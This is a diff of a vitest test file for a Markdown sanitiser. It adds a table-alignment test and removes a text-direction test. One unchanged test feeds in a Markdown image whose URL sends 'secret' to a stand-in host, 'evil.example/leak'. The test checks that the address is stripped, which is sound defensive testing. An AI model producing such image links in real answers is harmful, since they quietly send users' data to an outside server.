@@ -1,7 +1,6 @@
 import { describe, expect, test } from "vitest";
 
 import { splitBlocks, type Block } from "./blocks";
-import { directionOf } from "./direction";
 import { sanitise } from "./sanitise";
 
 /** The page as the answer would build it: sanitised markup in an element of its own. */
@@ -71,6 +70,13 @@ describe("hostile Markdown", () => {
   });
 });
 
+test("cells stand as their column says, without inline style", () => {
+  const page = pageOf("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |");
+  const classes = [...page.querySelectorAll("td")].map(({ className }) => className);
+  expect(classes).toEqual(["", "cell-middle", "cell-end"]);
+  checkHarmless(page);
+});
+
 describe("pictures and links", () => {
   test("a picture becomes words, with its host and without its address", () => {
     const page = pageOf("Look: ![a chart](https://evil.example/leak?q=secret)");
@@ -122,13 +128,4 @@ describe("blocks", () => {
     const later = splitBlocks("one\n\ntwo three\n\nfour");
     expect(later[0]).toEqual(early[0]);
   });
-});
-
-test.each([
-  ["Hello", "ltr"],
-  ["مرحبا بكم", "rtl"],
-  ["Galerne يعمل على هذا الخادم", "rtl"],
-  ["42 % …", "ltr"],
-])("direction of %s is %s", (text, direction) => {
-  expect(directionOf(text)).toBe(direction);
 });
